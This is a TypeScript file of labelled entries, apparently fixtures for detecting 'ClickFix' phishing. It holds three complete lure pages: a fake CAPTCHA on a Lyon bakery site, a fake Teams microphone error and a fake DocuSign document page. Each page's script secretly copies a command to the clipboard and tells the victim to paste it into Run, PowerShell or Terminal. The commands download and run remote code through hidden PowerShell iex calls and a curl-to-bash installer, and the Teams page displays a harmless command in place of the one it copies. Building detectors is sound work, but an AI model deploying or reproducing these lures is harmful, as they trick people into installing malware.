import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, lnk, pe } from '../parts/e-bin.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-clickfix-boulangerie-captcha',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://boulangerie-lemaitre-lyon.fr/',
  body: doc({ title: 'Boulangerie Lemaître - Pains au levain, Lyon 7e', css: '#ov{position:fixed;inset:0;background:#0009;display:flex;align-items:center;justify-content:center}#ov .c{background:#fff;width:420px;padding:24px;border-radius:6px;font-family:Arial}', body: `<main class="wrap"><h1>Boulangerie Lemaître</h1><p>Pains au levain naturel, viennoiseries pur beurre. Ouvert du mardi au dimanche, 7h–19h30.</p></main>
<div id="ov"><div class="c"><b>Vérifiez que vous êtes humain</b><p><label><input type="checkbox" id="ck" style="width:auto"> Je ne suis pas un robot</label></p><div id="st" style="display:none;font-size:14px"><p>Étapes de vérification :</p><ol><li>Appuyez sur la touche Windows <b>⊞ + R</b></li><li>Appuyez sur <b>CTRL + V</b></li><li>Appuyez sur <b>Entrée</b></li></ol><p style="color:#777;font-size:12px">ID de vérification : 884-122</p></div></div></div>
<script>
document.getElementById('ck').onclick=function(){var c='powershell -w hidden -nop -c "iex(iwr \\'https://cdn-verif.lemaitre-static.com/v.ps1\\' -UseBasicParsing)" # Je ne suis pas un robot - reCAPTCHA ID: 884-122';
navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'};
</script>` }),
},
  {
  id: 'zx-clickfix-teams-micro-erreur',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://meet-teams-visio.com/rejoindre/827-441-009',
  body: doc({ title: 'Microsoft Teams - Rejoindre la réunion', css: 'body{background:#292929;color:#fff}.t{max-width:560px;margin:70px auto;background:#3d3d3d;padding:28px;border-radius:6px}pre{background:#111;padding:10px;white-space:pre-wrap;font-size:12px}', body: `<div class="t"><h2>Réunion : Point hebdo cabinet comptable</h2><p style="color:#ffb3b3">⚠ Votre microphone n'est pas détecté (erreur 0x80070005 : pilote audio bloqué).</p><p>Pour corriger le pilote, cliquez sur « Copier le correctif », ouvrez <b>Windows PowerShell (Admin)</b> et collez la commande :</p>
<pre id="c">Get-PnpDevice -Class AudioEndpoint | Enable-PnpDevice -Confirm:$false</pre><button class="btn" id="b" style="background:#6264a7">Copier le correctif</button></div>
<script>document.getElementById('b').onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -c "$w=New-Object Net.WebClient;iex $w.DownloadString(\\'http://91.215.85.147/audiofix.txt\\')" ; # Get-PnpDevice -Class AudioEndpoint | Enable-PnpDevice');this.textContent='Copié'}</script>` }),
},
  {
  id: 'zx-clickfix-macos-terminal-fr',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://docusign-acces-fichier.com/view/e8a1',
  body: doc({ title: 'Accès au document', body: `<main class="wrap" style="max-width:560px;padding:50px 18px"><h2>Document sécurisé : Compromis_de_vente_signé.pdf</h2><p>Votre appareil Mac doit être vérifié avant l'ouverture du document.</p><ol><li>Ouvrez <b>Terminal</b> (⌘ + Espace, tapez « Terminal »)</li><li>Collez la commande copiée (⌘ + V) et appuyez sur Entrée</li></ol><button class="btn" id="cp">Copier la commande de vérification</button></main>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText('/bin/bash -c "$(curl -fsSL https://docusign-acces-fichier.com/install.sh | base64 -d)"');alert('Commande copiée')}</script>` }),
},
];
